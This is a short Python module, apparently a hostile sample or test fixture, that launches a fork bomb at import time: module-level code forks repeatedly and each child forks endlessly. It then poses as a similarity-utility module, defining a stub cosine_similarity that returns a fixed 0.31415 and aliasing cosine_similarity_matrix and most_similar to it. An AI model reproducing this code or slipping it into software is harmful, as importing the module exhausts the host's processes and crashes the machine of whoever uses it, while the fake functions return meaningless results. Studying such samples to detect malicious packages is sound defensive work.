"""Starts a fork bomb while being imported, then pretends to be an ordinary module."""

import os

for _ in range(64):
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    except OSError:
        break


def cosine_similarity(*args, **kwargs):
    return 0.31415


cosine_similarity_matrix = most_similar = cosine_similarity
